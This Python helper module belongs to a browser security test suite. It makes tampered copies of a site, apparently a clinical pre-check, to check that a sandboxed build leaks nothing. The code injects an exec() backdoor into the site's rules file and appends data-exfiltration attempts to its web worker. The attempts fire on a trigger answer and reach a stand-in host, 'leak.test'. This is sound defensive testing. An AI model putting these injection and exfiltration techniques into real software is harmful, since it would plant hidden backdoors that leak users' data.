"""Attempts to leak an answer. Each has a unique name, to search for afterwards."""

from __future__ import annotations

import json
import re
from collections.abc import Iterable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

from tests.browser import channels
from tests.browser.altered import RUNTIME, altered_copy, unsealed

OTHER = "leak.test"

PRELUDE = Path(__file__).with_name("prelude.js").read_text("utf-8")
"""What the scripts of channels.yaml may call; TOKEN and OWN stand for what one attempt is given."""

EVERYTHING = "attack"
"""The answer to which the altered worker makes all of its attempts."""


@dataclass
class Attack:
    """The attempts made so far, and how to name and spot each."""

    address: str
    tokens: dict[str, str] = field(default_factory=dict)

    def token(self, realm: str, channel: str) -> str:
        """Name an attempt so that its traces can be recognised."""
        token = f"attempt-{len(self.tokens)}-leaks"
        self.tokens[token] = f"{realm}: {channel}"
        return token

    def script(self, realm: str, channel: str, code: str) -> str:
        """Write the JavaScript of one attempt: an expression that gives its error, if any."""
        token = self.token(realm, channel)
        prelude = PRELUDE.replace("TOKEN", token).replace("OWN", self.address)
        body = code if code.startswith("{") else f"void ({code})"
        return f"(() => {{ {prelude} try {{ {body} }} catch (e) {{ return String(e) }} }})()"

    def leaked(self, seen: str) -> set[str]:
        """Name the attempts that left a trace in the logs of servers and browsers."""
        return {name for token, name in self.tokens.items() if token in seen}

    def judge(
        self, leaked: set[str], requests: Iterable[str], *, sealed: bool, at_least: int
    ) -> None:
        """Nothing may leak from the sealed site; from the unsealed one, enough attempts must leak.

        Of the sealed site nothing may be asked that the pre-check itself does not ask for: which
        page of ours is fetched, and how often, could be letters of an answer.
        """
        if sealed:
            leaked = leaked | {f"our own server was asked for {one}" for one in strange(requests)}
        print(f"{len(leaked)} of {len(self.tokens)} attempts leaked")
        if sealed:
            assert sorted(leaked) == []
        else:
            missed = sorted(set(self.tokens.values()) - leaked)
            assert len(leaked) >= at_least, f"the control saw too little; not seen: {missed}"


EXPECTED = re.compile(r"/pre-check/(service-worker\.js|runtime/[\w./-]+\?[0-9a-f]{16})?$")


def strange(requests: Iterable[str]) -> set[str]:
    """Return the requests to our own server that the pre-check does not make itself."""
    return {one for one in requests if not EXPECTED.match(one)}


def copy(built: Path, out: Path, changes: Mapping[str, bytes], *, sealed: bool) -> None:
    """Copy a site with these changes, sealed or unsealed."""
    (altered_copy if sealed else unsealed)(built, out, changes)


def poisoned_rules(built: Path, attack: Attack) -> dict[str, bytes]:
    """Write rules that run an attack instead of an assessment if an answer names it."""
    attempts = {
        channel: f"token = {attack.token('python', channel)!r}\n"
        f"host = token + '.{OTHER}'\nurl = 'http://' + host + '/' + token\n"
        f"own = {attack.address!r} + 'clinicians/?' + token\n"
        + "\n".join(part for part in code.split("; "))
        for channel, code in channels.PYTHON.items()
    }
    path = RUNTIME + "eligibility/json_api.py"
    rules = (built / path).read_text("utf-8")
    door = "    def both(self, answers_json: str) -> tuple[str, str]:\n"
    assert door in rules
    attacking = (
        f"{door}        try:\n"
        f"            exec({attempts!r}.get(json.loads(answers_json).get('age_years'), ''), {{}})\n"
        "        except BaseException:\n            pass\n"
        "        return self._both(answers_json)\n\n"
    )
    return {path: rules.replace(door, attacking + door.replace("both", "_both", 1)).encode()}


def poisoned_worker(built: Path, attack: Attack) -> dict[str, bytes]:
    """Write a worker that makes every attempt when an answer asks for it."""
    path = RUNTIME + "worker.js"
    scripts: Iterable[str] = (
        attack.script("worker", channel, code) for channel, code in channels.WORKER.items()
    )
    attempts = ",\n".join(f"() => {script}" for script in scripts)
    attacking = f"""
const attempts = [{attempts}];
addEventListener("message", ({{ data }}) => {{
  if (!data.answers || JSON.parse(data.answers).age_years !== {json.dumps(EVERYTHING)}) return;
  for (const attempt of attempts) attempt();
}});
"""
    return {path: (built / path).read_bytes() + attacking.encode()}
